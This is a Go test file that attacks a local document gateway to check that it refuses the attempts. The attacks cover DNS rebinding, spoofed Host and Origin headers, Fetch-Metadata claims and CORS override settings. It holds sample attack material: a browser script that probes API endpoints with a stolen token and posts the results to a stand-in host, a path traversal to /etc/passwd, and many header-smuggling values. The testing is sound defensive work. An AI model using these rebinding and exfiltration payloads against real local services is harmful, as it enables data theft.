//go:build unix

package attacks

import (
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
)

// P1: a page whose own name is made to point here is its own origin, for the
// browser. The attacker's server answers at first and then stands aside, so that
// the same name and port are the gateway.
func TestAttack06Rebinding(t *testing.T) {
	g := start(t)
	g.write("page.html", plainPage)
	id := g.open("page.html")
	port := strconv.Itoa(g.port)
	for _, host := range []string{"evil.test:" + port, "evil.test", "rebind.evil.test:" + port, "EVIL.TEST:" + port, "evil.test.:" + port} {
		for _, auth := range []string{"X-None: 1", g.auth(), g.auth() + "\r\nOrigin: http://" + host, g.auth() + "\r\nSec-Fetch-Site: same-origin"} {
			g.raw(host+" with "+auth[:6], request("GET /v1/documents HTTP/1.1", "Host: "+host, auth)).refused(421)
		}
	}
	before := g.state()
	s := newSite(g)
	turned := newTurncoat(t, s.plain.Listener.Addr().String(), g.addr())
	s.rules = append(s.rules, fmt.Sprintf("MAP rebind.test:%d %s", g.port, turned.addr))
	got := s.visit(fmt.Sprintf("http://rebind.test:%d/", g.port), g.desktop, withDocument(`<script>
(async () => {
  await fetch('/turn'); // from now on the same address is the gateway's
  for (const method of ['GET', 'POST', 'DELETE']) for (const p of ['/v1/health', '/v1/documents', '/v1/documents/' + D + '/source', '/v1/documents/' + D + '/write', '/v1/tokens']) for (const stolen of [false, true])
    tried(method + p + stolen, async () => {
      const r = await fetch(p, { method, headers: stolen ? { Authorization: 'Bearer ' + T } : {} });
      return (r.status === 421 ? 'refused ' : 'got ') + r.status + await r.text();
    });
  tried('frame', async () => { const f = el('iframe', { src: '/v1/documents' }); await loads(f); try { return f.contentDocument.body.textContent.includes('documents') ? 'got a frame' : 'closed'; } catch { return 'closed'; } });
  await Promise.all(pending);
  await fetch('/turn', { method: 'TRACE' }).catch(() => {});
  await fetch('http://evil.test/done', { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) });
})();
</script>`, id))
	mustNotGet(t, got, 30)
	for name, what := range got {
		if strings.Contains(what, "old news") || strings.Contains(what, g.dir) || strings.Contains(what, g.launch) {
			t.Errorf("%s: the refusal tells something: %s", name, what)
		}
	}
	if turned.passed.Load() == 0 || g.state() != before {
		t.Errorf("%d connections were rebound; changed: %v", turned.passed.Load(), g.state() != before)
	}
}

// turncoat hands connections to one address, until a request for /turn comes by;
// every later one goes to the other. It is a name that changes what it stands for.
type turncoat struct {
	addr   string
	passed atomic.Int64
}

func newTurncoat(t *testing.T, first, then string) *turncoat {
	t.Helper()
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	c := &turncoat{addr: l.Addr().String()}
	var turned atomic.Bool
	go func() {
		for {
			from, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer from.Close()
				head := make([]byte, 4096)
				n, err := from.Read(head)
				if err != nil {
					return
				}
				if strings.HasPrefix(string(head[:n]), "GET /turn ") {
					turned.Store(true)
					_, _ = io.WriteString(from, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
					return
				}
				addr := first
				if turned.Load() {
					addr = then
					c.passed.Add(1)
				}
				to, err := net.Dial("tcp4", addr)
				if err != nil {
					return
				}
				defer to.Close()
				if addr == first { // one request a connection: the next may be for the other
					head = []byte(strings.Replace(string(head[:n]), "Connection: keep-alive", "Connection: close", 1))
					n = len(head)
				}
				_, _ = to.Write(head[:n])
				var both sync.WaitGroup
				both.Go(func() { _, _ = io.Copy(to, from) })
				_, _ = io.Copy(from, to)
				_ = from.Close()
				both.Wait()
			}()
		}
	}()
	return c
}

func TestAttack07HostVariants(t *testing.T) {
	g := start(t)
	port := strconv.Itoa(g.port)
	for _, h := range []string{
		"localhost", "localhost:" + port, "localhost.:" + port, "LOCALHOST:" + port, "127.0.0.1", "127.0.0.1:", "127.0.0.1:80", "127.0.0.1:1", "127.0.0.1:0" + port,
		"127.0.0.1:" + port + "0", "127.1:" + port, "0177.0.0.1:" + port, "0x7f.0.0.1:" + port, "2130706433:" + port, "[::1]:" + port, "[::ffff:127.0.0.1]:" + port,
		"0.0.0.0:" + port, "0:" + port, "x.localhost:" + port, "127.0.0.1.nip.io:" + port, "127.0.0.1.:" + port, "127.0.0.2:" + port, "127.0.0.1:" + port + ".evil.test",
		"evil.test#127.0.0.1:" + port, "127.0.0.1:" + port + "/", "127.0.0.1:" + port + "@evil.test", "u:p@127.0.0.1:" + port, "127.0.0.1:" + port + ", evil.test", "１２７.0.0.1:" + port,
		"127.0.0.1:" + port + "\x00", "127.0.0.1:" + port + "\xff", "%31%32%37.0.0.1:" + port, "",
	} {
		g.raw("host "+strconv.Quote(h), request("GET /v1/documents HTTP/1.1", "Host: "+h, g.auth())).refused(421, 400)
	}
	for name, text := range map[string]string{
		"no host":              request("GET /v1/documents HTTP/1.1", g.auth()),
		"no host, 1.0":         request("GET /v1/documents HTTP/1.0", g.auth()),
		"host, 1.0":            request("GET /v1/documents HTTP/1.0", g.host(), g.auth()),
		"two hosts":            request("GET /v1/documents HTTP/1.1", g.host(), "Host: evil.test", g.auth()),
		"two equal hosts":      request("GET /v1/documents HTTP/1.1", g.host(), g.host(), g.auth()),
		"absolute, ours":       request("GET http://"+g.addr()+"/v1/documents HTTP/1.1", g.host(), g.auth()),
		"absolute, another":    request("GET http://evil.test/v1/documents HTTP/1.1", g.host(), g.auth()),
		"absolute, userinfo":   request("GET http://u@"+g.addr()+"/v1/documents HTTP/1.1", g.host(), g.auth()),
		"two slashes":          request("GET //evil.test/v1/documents HTTP/1.1", g.host(), g.auth()),
		"connect":              request("CONNECT "+g.addr()+" HTTP/1.1", g.host(), g.auth()),
		"asterisk":             request("OPTIONS * HTTP/1.1", g.host(), g.auth()),
		"asterisk, a stranger": request("OPTIONS * HTTP/1.1", "Host: evil.test"),
		"no version":           "GET /v1/documents\r\n\r\n",
		"version 2":            request("PRI * HTTP/2.0") + "SM\r\n\r\n",
		"version 1.2":          request("GET /v1/documents HTTP/1.2", g.host(), g.auth()),
		"name in the path":     request("GET /v1/documents/../../etc/passwd HTTP/1.1", g.host(), g.auth()),
		"behind a proxy":       request("GET /v1/documents HTTP/1.1", "Host: evil.test", "X-Forwarded-Host: "+g.addr(), "Forwarded: host="+g.addr(), g.auth()),
	} {
		g.raw(name, text).refused(400, 404, 421, 505)
	}
	g.raw("the one it has", request("GET /v1/documents HTTP/1.1", g.host(), g.auth())).want(200)
}

// P19: malformed ones have crashed other servers.
func TestAttack08OriginVariants(t *testing.T) {
	g := start(t)
	port := strconv.Itoa(g.port)
	for _, o := range []string{
		"https://127.0.0.1:" + port, "HTTP://127.0.0.1:" + port, "http://127.0.0.1:" + port + "/", "http://127.0.0.1", "http://localhost:" + port,
		"http://127.0.0.1.evil.test", "http://127.0.0.1:" + port + ".evil.test", "http://127.0.0.1:" + port + "@evil.test", "http://evil.local", "https://evil.test",
		"file://", "null", "NULL", "about:blank", "chrome-extension://abcdefghijklmnopabcdefghijklmnop", "moz-extension://x", "vscode-webview://x", "app://proofmark", "proofmark://app",
		"tauri://localhost", "http://[::1]:" + port, "http://", "://", "*", "", " ", "http://" + strings.Repeat("a", 10<<10), "http://\xff\xfe", "http://a\x01b", "http://%zz",
		"http://127.0.0.1:" + port + " http://evil.test", "http://127.0.0.1:99999999999", "http://127.0.0.1:-1", "http://[::1", "http://\u202eevil",
	} {
		for _, auth := range []string{g.auth(), "X-None: 1"} {
			g.raw("origin "+strconv.Quote(o), request("GET /v1/documents HTTP/1.1", g.host(), auth, "Origin: "+o)).refused(403, 400)
		}
	}
	// The one page that may call is the workbench, and being it is no credential.
	g.raw("the workbench", request("GET /v1/documents HTTP/1.1", g.host(), "X-None: 1", "Origin: "+g.url(""))).refused(401)
	if r := g.raw("the workbench", request("GET /v1/documents HTTP/1.1", g.host(), g.auth(), "Origin: "+g.url(""))); r.status != 200 || r.header.Get("Access-Control-Allow-Origin") != "" {
		t.Errorf("the workbench with a token: %d %v", r.status, r.header)
	}
	g.raw("two", request("GET /v1/documents HTTP/1.1", g.host(), g.auth(), "Origin: "+g.url(""), "Origin: https://evil.test")).refused(403)
	g.alive()
	if g.logged("panic", "") > 0 {
		t.Error("it panicked")
	}
}

// P15: what a browser says of a request is no credential.
func TestAttack09FetchMetadataIsNoCredential(t *testing.T) {
	g := start(t)
	for _, site := range []string{"same-origin", "none"} {
		for _, more := range []string{"X-None: 1", "Sec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\nSec-Fetch-User: ?1", "Referer: " + g.url("/"), "X-Requested-With: XMLHttpRequest"} {
			g.raw(site+more, request("GET /v1/documents HTTP/1.1", g.host(), "Sec-Fetch-Site: "+site, more)).refused(401)
		}
	}
	for _, site := range []string{"cross-site", "same-site", "", "SAME-ORIGIN", "same-origin, cross-site", "\xff"} {
		g.raw("site "+site, request("GET /v1/documents HTTP/1.1", g.host(), g.auth(), "Sec-Fetch-Site: "+site)).refused(403)
	}
	g.raw("two", request("GET /v1/documents HTTP/1.1", g.host(), g.auth(), "Sec-Fetch-Site: same-origin", "Sec-Fetch-Site: cross-site")).refused(403)
}

// P30: no page may call but the workbench; and nothing that a person, a file or
// the environment says makes it more.
func TestAttack10NoAllowList(t *testing.T) {
	g := start(t, "PROOFMARK_ORIGIN=*", "PROOFMARK_ALLOW_ORIGINS=https://evil.test", "PROOFMARK_ALLOWED_HOSTS=*", "CORS_ORIGIN=*", "PROOFMARK_HOST=0.0.0.0", "HOST=0.0.0.0", "PORT=1")
	for _, o := range []string{"https://evil.test", "", "*", "null", "http://127.0.0.1:1", g.url("/")} {
		g.raw("origin "+o, request("GET /v1/documents HTTP/1.1", g.host(), g.auth(), "Origin: "+o)).refused(403)
	}
	g.raw("host", request("GET /v1/documents HTTP/1.1", "Host: evil.test", g.auth())).refused(421)
	for _, flag := range []string{"--origin=*", "--allow-origin=https://evil.test", "--cors", "--allowed-hosts=*", "--insecure", "--no-auth"} {
		if code, out, errs := g.run("serve", flag); code != 2 {
			t.Errorf("serve %s: exit %d %s %s", flag, code, out, errs)
		}
	}
	other := start(t)
	other.stop()
	for _, text := range []string{`{"origins":["*"]}`, `{"features":{},"allowOrigins":[]}`, `{"host":"0.0.0.0"}`, `{"features":{"noSuch":true}}`, `{`, `[]`, ``, `null x`} {
		if err := writeOwn(other.data+"/config.json", text); err != nil {
			t.Fatal(err)
		}
		if code, out, errs := other.run("serve"); code != 2 || strings.Contains(out, "listens") {
			t.Errorf("with %s it starts: %d %s %s", text, code, out, errs)
		}
	}
	_ = other.remove("config.json")
	other.begin()
}

// A development server on another port of this machine is a stranger, too.
func TestAttack11SameSitePage(t *testing.T) {
	g := start(t)
	g.write("page.html", plainPage)
	id := g.open("page.html")
	s := newSite(g)
	before := g.state()
	_, port, _ := net.SplitHostPort(s.plain.Listener.Addr().String())
	for _, url := range []string{"http://localhost:" + port + "/", "http://127.0.0.1:" + port + "/"} {
		refused := g.logged("refused", "wrong_origin")
		mustNotGet(t, s.visit(url, g.desktop, withDocument(foreign, id)), 150)
		if n := g.logged("refused", "wrong_origin") - refused; n < 40 || g.state() != before {
			t.Errorf("%s: %d requests arrived; changed: %v", url, n, g.state() != before)
		}
	}
}

func writeOwn(path, text string) error { return os.WriteFile(path, []byte(text), 0o600) }

func (g *gateway) remove(name string) error { return os.Remove(g.data + "/" + name) }
